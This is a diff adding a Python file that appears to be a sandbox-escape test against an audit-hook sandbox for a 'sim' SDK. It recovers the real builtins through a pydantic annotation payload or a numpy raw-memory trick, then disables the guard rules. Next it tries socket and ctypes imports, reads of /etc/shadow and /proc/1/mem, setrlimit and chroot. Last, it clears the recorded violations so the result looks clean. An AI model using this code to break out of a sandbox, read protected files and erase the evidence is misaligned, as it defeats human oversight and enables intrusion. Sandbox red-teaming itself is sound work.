@@ -1,0 +1,98 @@
+# expect: runtime
+# Once the real builtins are in hand (pydantic string annotation, or numpy's object dtype over a raw buffer), the
+# audit hook is only as strong as the module globals it calls: replace its rule function (and the import and
+# attribute rules of the module proxies) in sim.sandbox_child, then do what the hook used to refuse, and finally
+# empty the list of recorded violations so that the answer looks clean.
+import math
+
+import numpy as np
+import sim
+
+loot = {}
+
+
+def note(label, step):
+    """Run one attempt; keep a short line on what it gave."""
+    try:
+        value = step()
+    except BaseException as exc:
+        loot[label] = 'no ' + repr(exc).replace('PermissionError', 'PE')[:60]
+        return None
+    loot[label] = 'GOT ' + (f'dict of {len(value)}' if isinstance(value, dict) else repr(value)[:90])
+    return value
+
+
+def builtins_via_annotation():
+    """pydantic evaluates a string annotation of a model subclass with the real builtins."""
+    payload = "__import__('sys').modules['math'].__dict__.__setitem__('stash', __builtins__) or 'int'"
+    for base in (lambda: sim.SceneSpec, lambda: type(sim.on('a', 'b')), lambda: type(sim.Scene('pick_place').spec())):
+        try:
+            class Probe(base()):
+                probe: payload = None
+        except BaseException:
+            pass
+        try:
+            return math.stash
+        except AttributeError:
+            pass
+    raise LookupError('no SDK class took the string annotation')
+
+
+def builtins_via_numpy():
+    """An object-dtype ndarray over a raw buffer turns any address into an object: fake a bytearray spanning all of
+    memory, read a trusted function's func_builtins pointer, and turn that into the real builtins dict."""
+    def object_at(address):
+        return np.ndarray((1,), dtype=object, buffer=bytearray(address.to_bytes(8, 'little')))[0]
+
+    fake = b''.join(n.to_bytes(8, 'little') for n in (1 << 40, id(bytearray), 1 << 62, 0, 0, 0, 0))
+    memory = object_at(id(fake) + 32)
+    if type(sim.place) is not type(note):
+        return None
+    return object_at(int.from_bytes(bytes(memory[id(sim.place) + 24:id(sim.place) + 32]), 'little'))
+
+
+def escape():
+    """(real builtins, the sandbox's child module) with the Python guards switched off, or (None, None)."""
+    real = note('builtins via pydantic annotation', builtins_via_annotation) or note(
+        'builtins via numpy object dtype', builtins_via_numpy)
+    if not isinstance(real, dict) or '__import__' not in real:
+        return None, None
+    child = real['__import__']('sys').modules['sim.sandbox_child']
+    for rule in ('_event_problem', 'import_problem', 'attribute_problem'):
+        real['setattr'](child, rule, lambda *args, **kwargs: None)
+    return real, child
+
+
+def cover_tracks(real, child):
+    """Forget the violations the guards recorded before they were switched off."""
+    if real is not None:
+        for entry in real['getattr'](child, '_PREPARED').values():
+            entry[1].clear()
+
+
+def report():
+    """What worked first (the error message is cut at 500 characters)."""
+    return repr(sorted(loot.items(), key=lambda item: not item[1].startswith('GOT')))
+
+
+before = note('listdir before the swap', lambda: sim.SceneSpec and None)
+real, child = escape()
+if real is not None:
+    sysm = real['__import__']('sys')
+    osm = real['__import__']('os')
+    gc = real['__import__']('gc')
+    loot['rule now'] = repr(real['getattr'](child, '_event_problem'))[:40]
+    note('hook: gc.get_objects', lambda: len(gc.get_objects()))
+    note('hook: sys.settrace', lambda: sysm.settrace(None))
+    note('hook: import socket', lambda: real['__import__']('socket'))
+    note('hook: import ctypes', lambda: real['__import__']('ctypes').CDLL(None))
+    note('proxy: sim.os', lambda: sim.os.getpid())
+    note('listdir /', lambda: osm.listdir('/'))
+    note('listdir /proc', lambda: osm.listdir('/proc'))
+    note('open /etc/shadow', lambda: sysm.modules['_io'].FileIO('/etc/shadow').read(40))
+    note('open /proc/1/mem', lambda: sysm.modules['_io'].FileIO('/proc/1/mem').read(40))
+    note('os.open write', lambda: osm.open('/tmp/coda-hook-swapped', osm.O_WRONLY | osm.O_CREAT))
+    note('setrlimit', lambda: real['__import__']('resource').setrlimit(9, (-1, -1)))
+    note('chroot escape', lambda: osm.chroot('..'))
+    cover_tracks(real, child)
+raise RuntimeError('audit hook swap: ' + report())
